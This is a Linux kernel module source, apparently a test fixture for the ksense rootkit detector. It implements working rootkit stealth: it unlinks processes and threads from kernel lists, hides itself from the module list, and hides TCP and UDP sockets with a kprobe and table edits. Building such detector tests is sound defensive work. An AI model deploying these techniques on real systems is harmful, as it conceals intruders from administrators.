// SPDX-License-Identifier: GPL-2.0-only
/*
 * ks_hide.c - hides a process or itself as rootkits do, so that tests can show that the sensor
 * finds it.
 *
 * Never load it on a machine that matters.  It takes its orders from writable parameters,
 * /sys/module/ks_hide/parameters/:
 *
 *   list=PID    takes the process out of the list of tasks (task->tasks), the oldest trick on a
 *               kernel's objects: it runs on, but whatever goes through the list, the OOM killer
 *               among it, passes it by.  Found as "hidden", missing in "task-list".
 *   table=PID   takes it out of the pid table as well (its links to its struct pid): no /proc/PID,
 *               so no ps, and kill finds nobody. Found as "hidden", missing in "pid-table" and
 *               "task-list"; the process tree still has it.
 *   tree=PID    and out of its parent's list of children: nothing but the CPU that runs it knows
 *               it.  Found as "hidden", seen "running".
 *   thread=TID  takes one thread, not the first of its process, out of the pid table: the process
 *               stays, /proc/PID/task lacks it.  Found as "hidden", missing in "pid-table"; the
 *               process's list of threads still has it.
 *   group=TID   takes one thread out of the ring that /proc/PID/task shows before Linux 6.7
 *               (task->thread_group); since then there is no such ring. Found as "hidden", missing
 *               in "threads".
 *   node=TID    takes one thread out of the list of its process's threads, and puts it into a list
 *               of its own, so that its neighbours look right. Found likewise.
 *   both=TID    the two together.
 *   child=PID   takes the process out of its parent's list of children, and puts it into a list of
 *               its own.  Found as "hidden", missing in "tree".
 *   ring=PID    takes the process out of the list of tasks and links it to itself, so that its
 *               neighbours look right.  Found as list=.
 *   future=PID  the same, and its start is set to a day that is still to come, so that it looks as
 *               if it were too new to be in the list yet.
 *   as_thread=PID
 *               makes the process look like a thread (exit_signal of -1), and takes it out of the
 *               table of processes by number: /proc still has it for whoever asks for that pid,
 *               and does not list it.  Found as "hidden", missing in "pid-table".
 *   ended=1     makes a thread of the kernel's that runs all the time, hides it as tree=, and has
 *               it say that it has ended.  Found as "hidden", seen "running".
 *   unformed=1  says that this module is not formed yet: it is in the list, and lsmod and rmmod
 *               pass it by.  The probe "modules" has to report it.
 *   alias=NAME  gives this module another name, which may be another module's.  The probe
 *               "modules" has to have both.
 *   self=1      takes this module out of the list of modules: lsmod and rmmod do not know it.
 *               Diamorphine, Reptile and adore-ng do it so. The probe "modules" has to report it.
 *   port=N      leaves the TCP sockets of this local port out of /proc/net/tcp, by a kprobe on the
 *               function that shows one, as Reptile does it.  Nothing that the kernel keeps is
 *               changed: ksense compare finds it as "socket-not-in-proc".
 *   owned=PID   has the kernel say that the process's page tables are its own, those for calls of
 *               the firmware (efi_mm), of which a Dom0 has none.  Hidden as tree= beside it, and
 *               asleep, it is found as "hidden-process" still.
 *   lowest=PID  puts the root of the process's page tables into the lowest frame of memory, number
 *               0, which the kernel leaves alone.  "dom0-roots" has to find it running there.
 *   udp=PID:FD  takes a UDP socket out of the table that /proc/net/udp and netlink show, and its
 *               port out of what it sends; what arrives finds it by another table.  Not
 *               confirmed: who asks it is told that it has no port.
 *   type=PID:FD says that a socket is of a type that none of its protocol has (SOCK_RDM), and does
 *               all as before.  Until it is closed.  Beside port= it is found as without it.
 *   family=PID:FD
 *               says that a socket is of a family that it is not of (AF_MAX), and of another
 *               protocol: what arrives finds it as before, and neither /proc/net nor netlink shows
 *               it.  0 puts that back.  Found as "socket-not-in-proc".
 *   shade=HOW   says, 100 times a second, that a module comes that has all of the modules' area,
 *               so that whatever is wrong there looks like one that just comes: 1, one that there
 *               is not; 2, one that is put into the list for that.  "modules" has to report it all
 *               the same.
 *
 * 0 puts back what the parameter hid.  That has to be done before a hidden process ends, or the
 * kernel unlinks it a second time; and before rmmod, which does not know a module that hides.  A
 * second write without a 0 in between is refused.  Loading it with parameters hides at once.  What
 * really hides processes in those rootkits, a flag and a filter in the system call that lists a
 * folder, changes no object that processes are found by: the sensor's records have such a process,
 * ps has not.
 *
 * What is not exported is looked up as they do it: a kprobe tells the address of
 * kallsyms_lookup_name().  Unlike them it takes the locks.
 */
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/net.h>
#include <linux/notifier.h>
#include <linux/pgtable.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/rcupdate.h>
#include <linux/sched/mm.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/time64.h>
#include <linux/version.h>
#include <linux/workqueue.h>
#include <net/inet_sock.h>
#include <net/sock.h>
#include <net/udp.h>

static rwlock_t *tasks_lock;            /* tasklist_lock */
static struct mutex *modules_mutex;     /* module_mutex */
static struct list_head *modules_list;  /* modules */
static struct blocking_notifier_head *modules_notifier; /* module_notify_list */

/* === Links of a task ==================================================== */

enum links {
	IN_LIST = 1,
	IN_TABLE = 2,
	IN_TREE = 4,
	RING = 8,               /* with IN_LIST: links it to itself */
	ONE_THREAD = 16,        /* of a thread, not a process */
	FUTURE = 32,            /* with RING: and starts tomorrow */
	NO_PROCESS = 64,        /* its link as a process, and that it says it is one */
	IN_GROUP = 128,         /* of a thread, as the next */
	IN_THREADS = 256,       /* and puts it into a list of its own */
	IN_CHILDREN = 512,      /* and puts it into a list of its own */
};

static const enum pid_type process_types[] = { PIDTYPE_PID, PIDTYPE_TGID };

static unsigned int types_of(unsigned int links)
{
	return links & ONE_THREAD ? 1 : ARRAY_SIZE(process_types);
}

static struct pid *pid_of(struct task_struct *task, enum pid_type type)
{
	return type == PIDTYPE_PID ? task->thread_pid : task->signal->pids[type];
}

#define TOMORROW_NS (24 * 3600 * NSEC_PER_SEC)

static int exit_signal; /* what the one that says that it is no process had */

static LIST_HEAD(own_threads);
static LIST_HEAD(own_children);

/* The second list of a process's threads, which there was until 6.7. */
#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 7, 0)
static void unlink_group(struct task_struct *task)
{
	list_del_rcu(&task->thread_group);
}

static void forget_group(struct task_struct *task)
{
	INIT_LIST_HEAD(&task->thread_group);
}

static void link_group(struct task_struct *task)
{
	list_add_tail_rcu(&task->thread_group, &task->group_leader->thread_group);
}
#else
static void unlink_group(struct task_struct *task)
{
}

static void forget_group(struct task_struct *task)
{
}

static void link_group(struct task_struct *task)
{
}
#endif

static void unlink_task(struct task_struct *task, unsigned int links)
{
	write_lock_irq(tasks_lock);
	if (links & IN_LIST)
		list_del_rcu(&task->tasks);
	for (unsigned int i = 0; links & IN_TABLE && i < types_of(links); i++)
		hlist_del_rcu(&task->pid_links[process_types[i]]);
	if (links & IN_TREE)
		list_del_init(&task->sibling);
	if (links & IN_CHILDREN)
		list_move(&task->sibling, &own_children);
	if (links & IN_GROUP)
		unlink_group(task);
	if (links & IN_THREADS)
		list_del_rcu(&task->thread_node);
	if (links & NO_PROCESS) {
		hlist_del_rcu(&task->pid_links[PIDTYPE_TGID]);
		exit_signal = task->exit_signal;
		task->exit_signal = -1;
	}
	if (links & FUTURE)
		task->start_boottime += TOMORROW_NS;
	write_unlock_irq(tasks_lock);
	/* Or whoever is just at this one would go round in it for ever. */
	if (links & (RING | IN_GROUP | IN_THREADS))
		synchronize_rcu();
	if (links & RING)
		INIT_LIST_HEAD(&task->tasks);
	if (links & IN_GROUP)
		forget_group(task);
	if (links & IN_THREADS)
		list_add(&task->thread_node, &own_threads);
}

static void link_task(struct task_struct *task, unsigned int links)
{
	write_lock_irq(tasks_lock);
	if (links & IN_LIST)
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	for (unsigned int i = 0; links & IN_TABLE && i < types_of(links); i++)
		hlist_add_head_rcu(&task->pid_links[process_types[i]],
				   &pid_of(task, process_types[i])->tasks[process_types[i]]);
	if (links & IN_TREE)
		list_add_tail(&task->sibling, &task->real_parent->children);
	if (links & IN_CHILDREN)
		list_move_tail(&task->sibling, &task->real_parent->children);
	if (links & IN_GROUP)
		link_group(task);
	if (links & IN_THREADS) {
		list_del(&task->thread_node);
		list_add_tail_rcu(&task->thread_node, &task->signal->thread_head);
	}
	if (links & NO_PROCESS) {
		task->exit_signal = exit_signal;
		hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID], &pid_of(task, PIDTYPE_TGID)->tasks[PIDTYPE_TGID]);
	}
	if (links & FUTURE)
		task->start_boottime -= TOMORROW_NS;
	write_unlock_irq(tasks_lock);
}

/* === Parameters ========================================================= */

struct hiding {
	unsigned int links;
	/* the hidden one, with a reference; guarded by the lock of this module's parameters */
	struct task_struct *task;
};

static struct hiding hide_list = { .links = IN_LIST };
static struct hiding hide_table = { .links = IN_LIST | IN_TABLE };
static struct hiding hide_tree = { .links = IN_LIST | IN_TABLE | IN_TREE };
static struct hiding hide_thread = { .links = IN_TABLE | ONE_THREAD };
static struct hiding hide_ring = { .links = IN_LIST | RING };
static struct hiding hide_future = { .links = IN_LIST | RING | FUTURE };
static struct hiding hide_as_thread = { .links = NO_PROCESS };
static struct hiding hide_group = { .links = IN_GROUP | ONE_THREAD };
static struct hiding hide_node = { .links = IN_THREADS | ONE_THREAD };
static struct hiding hide_both = { .links = IN_GROUP | IN_THREADS | ONE_THREAD };
static struct hiding hide_child = { .links = IN_CHILDREN };

static int find_symbols(void);

/* With a reference; NULL: there is none. */
static struct task_struct *task_of(int number)
{
	struct pid *pid = find_get_pid(number);
	struct task_struct *task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;

	put_pid(pid);
	return task;
}

static int set_hiding(const char *text, const struct kernel_param *param)
{
	struct hiding *hiding = param->arg;
	struct task_struct *task;
	int number, error = kstrtoint(text, 0, &number);

	if (!error)
		error = find_symbols();
	if (error)
		return error;
	if (!number) {
		if (hiding->task) {
			link_task(hiding->task, hiding->links);
			put_task_struct(hiding->task);
			hiding->task = NULL;
		}
		return 0;
	}
	if (hiding->task)
		return -EBUSY;
	task = task_of(number);
	if (!task)
		return -ESRCH;
	if (thread_group_leader(task) == !!(hiding->links & ONE_THREAD)) {
		put_task_struct(task);
		return -EINVAL;
	}
	unlink_task(task, hiding->links);
	hiding->task = task;
	return 0;
}

static int get_hiding(char *text, const struct kernel_param *param)
{
	struct hiding *hiding = param->arg;

	return sysfs_emit(text, "%d\n", hiding->task ? hiding->task->pid : 0);
}

static const struct kernel_param_ops hiding_ops = { .set = set_hiding, .get = get_hiding };

module_param_cb(list, &hiding_ops, &hide_list, 0600);
MODULE_PARM_DESC(list, "process to take out of the list of tasks; 0 puts it back");
module_param_cb(table, &hiding_ops, &hide_table, 0600);
MODULE_PARM_DESC(table, "process to take out of the list of tasks and the pid table");
module_param_cb(tree, &hiding_ops, &hide_tree, 0600);
MODULE_PARM_DESC(tree, "process to take out of the list of tasks, the pid table and its parent's children");
module_param_cb(thread, &hiding_ops, &hide_thread, 0600);
MODULE_PARM_DESC(thread, "thread to take out of the pid table");
module_param_cb(ring, &hiding_ops, &hide_ring, 0600);
MODULE_PARM_DESC(ring, "process to take out of the list of tasks and to link to itself");
module_param_cb(future, &hiding_ops, &hide_future, 0600);
MODULE_PARM_DESC(future, "the same, of which it looks as if it started tomorrow");
module_param_cb(as_thread, &hiding_ops, &hide_as_thread, 0600);
MODULE_PARM_DESC(as_thread, "process that is to look like a thread");

module_param_cb(group, &hiding_ops, &hide_group, 0600);
MODULE_PARM_DESC(group, "thread to take out of the ring of its process's threads");
module_param_cb(node, &hiding_ops, &hide_node, 0600);
MODULE_PARM_DESC(node, "thread to take out of the list of its process's threads, into one of its own");
module_param_cb(both, &hiding_ops, &hide_both, 0600);
MODULE_PARM_DESC(both, "thread to take out of both");
module_param_cb(child, &hiding_ops, &hide_child, 0600);
MODULE_PARM_DESC(child, "process to take out of its parent's children, into a list of its own");

static struct mm_struct *firmware_mm;
static pgd_t *firmware_pgd;
static int owned;

static int set_owned(const char *text, const struct kernel_param *param)
{
	struct task_struct *task;
	int number, error = kstrtoint(text, 0, &number);

	if (!error)
		error = find_symbols();
	if (error || !number == !owned)
		return error;
	if (!firmware_mm)
		return -ENOENT;
	if (!number) {
		WRITE_ONCE(firmware_mm->pgd, firmware_pgd);
		owned = 0;
		return 0;
	}
	task = task_of(number);
	if (!task)
		return -ESRCH;
	firmware_pgd = firmware_mm->pgd;
	WRITE_ONCE(firmware_mm->pgd, task->mm->pgd);
	owned = number;
	put_task_struct(task);
	return 0;
}

static const struct kernel_param_ops owned_ops = { .set = set_owned, .get = param_get_int };

module_param_cb(owned, &owned_ops, &owned, 0600);
MODULE_PARM_DESC(owned, "process whose page tables are to look like the kernel's own");

static struct mm_struct *lowest_mm;     /* with a reference */
static pgd_t *lowest_was;
static int lowest;

static void raise_lowest(void)
{
	memcpy(lowest_was, lowest_mm->pgd, PAGE_SIZE);
	WRITE_ONCE(lowest_mm->pgd, lowest_was);
	mmput(lowest_mm);
	lowest = 0;
}

static int set_lowest(const char *text, const struct kernel_param *param)
{
	struct task_struct *task;
	int number, error = kstrtoint(text, 0, &number);

	if (error || !number == !lowest)
		return error;
	if (!number) {
		raise_lowest();
		return 0;
	}
	task = task_of(number);
	if (!task)
		return -ESRCH;
	lowest_mm = get_task_mm(task);
	put_task_struct(task);
	if (!lowest_mm)
		return -ESRCH;
	lowest_was = lowest_mm->pgd;
	memcpy(__va(0), lowest_was, PAGE_SIZE);
	WRITE_ONCE(lowest_mm->pgd, (pgd_t *)__va(0));
	lowest = number;
	return 0;
}

static const struct kernel_param_ops lowest_ops = { .set = set_lowest, .get = param_get_int };

module_param_cb(lowest, &lowest_ops, &lowest, 0600);
MODULE_PARM_DESC(lowest, "process whose page tables are to begin in the lowest frame of memory");

static struct task_struct *ended_thread;

static int run_on(void *unused)
{
	set_user_nice(current, MAX_NICE);
	while (!kthread_should_stop())
		cond_resched();
	return 0;
}

static void end_ended(void)
{
	WRITE_ONCE(ended_thread->exit_state, 0);
	atomic_set(&ended_thread->signal->live, 1);
	link_task(ended_thread, hide_tree.links);
	kthread_stop(ended_thread);
	put_task_struct(ended_thread);
	ended_thread = NULL;
}

static int set_ended(const char *text, const struct kernel_param *param)
{
	struct task_struct *thread;
	bool hide;
	int error = kstrtobool(text, &hide);

	if (!error)
		error = find_symbols();
	if (error || hide == !!ended_thread)
		return error;
	if (!hide) {
		end_ended();
		return 0;
	}
	thread = kthread_run(run_on, NULL, "ks_ended");
	if (IS_ERR(thread))
		return PTR_ERR(thread);
	get_task_struct(thread);
	unlink_task(thread, hide_tree.links);
	atomic_set(&thread->signal->live, 0);
	WRITE_ONCE(thread->exit_state, EXIT_DEAD);
	ended_thread = thread;
	return 0;
}

static int get_ended(char *text, const struct kernel_param *param)
{
	return sysfs_emit(text, "%d\n", ended_thread ? ended_thread->pid : 0);
}

static const struct kernel_param_ops ended_ops = { .set = set_ended, .get = get_ended };

module_param_cb(ended, &ended_ops, NULL, 0600);
MODULE_PARM_DESC(ended, "1 has a thread run that is hidden and says that it has ended, 0 ends it");

static bool self_hidden;

static int set_self(const char *text, const struct kernel_param *param)
{
	bool hide;
	int error = kstrtobool(text, &hide);

	if (!error)
		error = find_symbols();
	if (error || hide == self_hidden)
		return error;
	mutex_lock(modules_mutex);
	if (hide)
		list_del_rcu(&THIS_MODULE->list);
	else
		list_add_rcu(&THIS_MODULE->list, modules_list);
	mutex_unlock(modules_mutex);
	self_hidden = hide;
	return 0;
}

static const struct kernel_param_ops self_ops = { .set = set_self, .get = param_get_bool };

module_param_cb(self, &self_ops, &self_hidden, 0600);
MODULE_PARM_DESC(self, "1 takes this module out of the list of modules, 0 puts it back");

static bool unformed;

static int set_unformed(const char *text, const struct kernel_param *param)
{
	int error = param_set_bool(text, param);

	if (!error)
		WRITE_ONCE(THIS_MODULE->state, unformed ? MODULE_STATE_UNFORMED : MODULE_STATE_LIVE);
	return error;
}

static const struct kernel_param_ops unformed_ops = { .set = set_unformed, .get = param_get_bool };

module_param_cb(unformed, &unformed_ops, &unformed, 0600);
MODULE_PARM_DESC(unformed, "1 says that this module is not formed yet, 0 that it is live");

static int set_alias(const char *text, const struct kernel_param *param)
{
	return strscpy(THIS_MODULE->name, text, sizeof(THIS_MODULE->name)) < 0 ? -EINVAL : 0;
}

static int get_alias(char *text, const struct kernel_param *param)
{
	return sysfs_emit(text, "%s\n", THIS_MODULE->name);
}

static const struct kernel_param_ops alias_ops = { .set = set_alias, .get = get_alias };

module_param_cb(alias, &alias_ops, NULL, 0600);
MODULE_PARM_DESC(alias, "name to give this module");

static int shade;
static struct module made_up;

static void say_it_comes(struct work_struct *work)
{
	blocking_notifier_call_chain(modules_notifier, MODULE_STATE_COMING, &made_up);
	queue_delayed_work(system_highpri_wq, to_delayed_work(work), HZ / 100);
}

static DECLARE_DELAYED_WORK(shading, say_it_comes);

static void make_up(void)
{
	made_up.state = MODULE_STATE_UNFORMED; /* so that nobody else looks at it */
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	made_up.mem[MOD_TEXT].base = (void *)MODULES_VADDR;
	made_up.mem[MOD_DATA].size = MODULES_LEN; /* as code it would own all code there */
#else
	made_up.core_layout.base = (void *)MODULES_VADDR;
	made_up.core_layout.size = MODULES_LEN;
#endif
}

static int set_shade(const char *text, const struct kernel_param *param)
{
	int how, error = kstrtoint(text, 0, &how);

	if (!error)
		error = find_symbols();
	if (error || !how == !shade)
		return error;
	make_up();
	if (!how)
		cancel_delayed_work_sync(&shading);
	mutex_lock(modules_mutex);
	if (how == 2)
		list_add_rcu(&made_up.list, modules_list);
	if (shade == 2)
		list_del_rcu(&made_up.list);
	mutex_unlock(modules_mutex);
	shade = how;
	if (how)
		queue_delayed_work(system_highpri_wq, &shading, 0);
	return 0;
}

static const struct kernel_param_ops shade_ops = { .set = set_shade, .get = param_get_int };

module_param_cb(shade, &shade_ops, &shade, 0600);
MODULE_PARM_DESC(shade, "1 or 2 says again and again that a module comes, 0 no more");

/* === Sockets ============================================================ */

static int hidden_port;

static int show_nothing(struct seq_file *file, void *shown)
{
	return 0;
}

/* The first that is "shown" is the line above all. */
static int on_show(struct kprobe *probe, struct pt_regs *regs)
{
	const struct sock *sk = (const struct sock *)regs->si;

	if ((void *)sk == SEQ_START_TOKEN || sk->sk_num != READ_ONCE(hidden_port))
		return 0;
	regs->ip = (unsigned long)show_nothing;
	return 1;
}

static struct kprobe show_probe = { .symbol_name = "tcp4_seq_show", .pre_handler = on_show };

static int set_port(const char *text, const struct kernel_param *param)
{
	int port, error = kstrtoint(text, 0, &port);

	if (error || !port == !hidden_port)
		return error;
	WRITE_ONCE(hidden_port, port);
	if (port) {
		error = register_kprobe(&show_probe);
		if (error)
			hidden_port = 0;
		return error;
	}
	unregister_kprobe(&show_probe);
	show_probe.flags = 0;
	show_probe.addr = NULL;
	return 0;
}

static const struct kernel_param_ops port_ops = { .set = set_port, .get = param_get_int };

module_param_cb(port, &port_ops, &hidden_port, 0600);
MODULE_PARM_DESC(port, "local port whose TCP sockets /proc/net/tcp is not to show");

/* "PID:FD" in the hands of a process that keeps it open meanwhile. */
static int with_socket(const char *text, int (*bend)(struct socket *sock))
{
	struct task_struct *task;
	struct socket *sock;
	struct file *file;
	unsigned int fd;
	int pid, error;

	if (sscanf(text, "%d:%u", &pid, &fd) != 2)
		return -EINVAL;
	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	file = task && task->files ? files_lookup_fd_raw(task->files, fd) : NULL;
	sock = file ? sock_from_file(file) : NULL;
	error = sock ? bend(sock) : -ENOTSOCK;
	rcu_read_unlock();
	return error;
}

static struct sock *udp_sk_bent; /* with a reference */

/* From 6.2 on each network namespace may have a table of its own. */
static struct udp_hslot *udp_slot(struct sock *sk)
{
	struct udp_table *table = sk->sk_prot->h.udp_table;

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 2, 0)
	table = table ?: sock_net(sk)->ipv4.udp_table;
#endif
	return udp_hashslot(table, sock_net(sk), inet_sk(sk)->inet_num);
}

static int bend_udp(struct socket *sock)
{
	struct sock *sk = sock->sk;
	struct udp_hslot *slot;

	if (udp_sk_bent)
		return -EBUSY;
	if (sk->sk_family != AF_INET || sk->sk_protocol != IPPROTO_UDP || sk_unhashed(sk))
		return -EINVAL;
	slot = udp_slot(sk);
	sock_hold(sk);
	spin_lock_bh(&slot->lock);
	slot->count--;
	sk_del_node_init_rcu(sk);
	spin_unlock_bh(&slot->lock);
	WRITE_ONCE(inet_sk(sk)->inet_sport, 0);
	udp_sk_bent = sk;
	return 0;
}

static void straighten_udp(void)
{
	struct sock *sk = udp_sk_bent;
	struct udp_hslot *slot = udp_slot(sk);

	spin_lock_bh(&slot->lock);
	sk_add_node_rcu(sk, &slot->head);
	slot->count++;
	spin_unlock_bh(&slot->lock);
	WRITE_ONCE(inet_sk(sk)->inet_sport, htons(inet_sk(sk)->inet_num));
	sock_put(sk);
	udp_sk_bent = NULL;
}

static int bend_type(struct socket *sock)
{
	WRITE_ONCE(sock->type, SOCK_RDM);
	return 0;
}

static int set_udp(const char *text, const struct kernel_param *param)
{
	if (strncmp(text, "0", strlen("0")) != 0)
		return with_socket(text, bend_udp);
	if (udp_sk_bent)
		straighten_udp();
	return 0;
}

static struct sock *family_sk_bent; /* with a reference */
static unsigned short family_was, protocol_was;

static int bend_family(struct socket *sock)
{
	if (family_sk_bent)
		return -EBUSY;
	family_sk_bent = sock->sk;
	sock_hold(family_sk_bent);
	family_was = family_sk_bent->sk_family;
	protocol_was = family_sk_bent->sk_protocol;
	WRITE_ONCE(family_sk_bent->sk_family, AF_MAX);
	WRITE_ONCE(family_sk_bent->sk_protocol, IPPROTO_MAX - 1);
	return 0;
}

static void straighten_family(void)
{
	WRITE_ONCE(family_sk_bent->sk_protocol, protocol_was);
	WRITE_ONCE(family_sk_bent->sk_family, family_was);
	sock_put(family_sk_bent);
	family_sk_bent = NULL;
}

static int set_family(const char *text, const struct kernel_param *param)
{
	if (strncmp(text, "0", strlen("0")) != 0)
		return with_socket(text, bend_family);
	if (family_sk_bent)
		straighten_family();
	return 0;
}

static int set_type(const char *text, const struct kernel_param *param)
{
	return with_socket(text, bend_type);
}

static const struct kernel_param_ops udp_ops = { .set = set_udp }, type_ops = { .set = set_type },
				   family_ops = { .set = set_family };

module_param_cb(udp, &udp_ops, NULL, 0200);
MODULE_PARM_DESC(udp, "PID:FD of a UDP socket to take out of the table that is shown");
module_param_cb(family, &family_ops, NULL, 0200);
MODULE_PARM_DESC(family, "PID:FD of a socket that is to say that it is of another family");
module_param_cb(type, &type_ops, NULL, 0200);
MODULE_PARM_DESC(type, "PID:FD of a socket that is to say that it is of another type");

/* === Start and end ====================================================== */

/*
 * Parameters of insmod are set before the module's init runs, so whoever needs the symbols first
 * looks for them.
 */
static int find_symbols(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);
	int error;

	if (modules_list)
		return 0;
	error = register_kprobe(&probe);
	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	tasks_lock = (void *)lookup("tasklist_lock");
	modules_mutex = (void *)lookup("module_mutex");
	modules_list = (void *)lookup("modules");
	modules_notifier = (void *)lookup("module_notify_list");
	firmware_mm = (void *)lookup("efi_mm");
	return tasks_lock && modules_mutex && modules_list && modules_notifier ? 0 : -ENOENT;
}

static int __init hide_start(void)
{
	return find_symbols();
}

static void __exit hide_stop(void)
{
	struct hiding *all[] = { &hide_list,	  &hide_table, &hide_tree, &hide_thread, &hide_ring, &hide_future,
				 &hide_as_thread, &hide_group, &hide_node, &hide_both,	 &hide_child };

	if (hidden_port)
		unregister_kprobe(&show_probe);
	if (udp_sk_bent)
		straighten_udp();
	if (family_sk_bent)
		straighten_family();
	if (owned)
		WRITE_ONCE(firmware_mm->pgd, firmware_pgd);
	if (lowest)
		raise_lowest();
	if (ended_thread)
		end_ended();
	for (unsigned int i = 0; i < ARRAY_SIZE(all); i++) {
		if (!all[i]->task)
			continue;
		link_task(all[i]->task, all[i]->links);
		put_task_struct(all[i]->task);
	}
}

module_init(hide_start);
module_exit(hide_stop);

MODULE_DESCRIPTION("hides processes and itself, for tests of ksense");
MODULE_LICENSE("GPL");
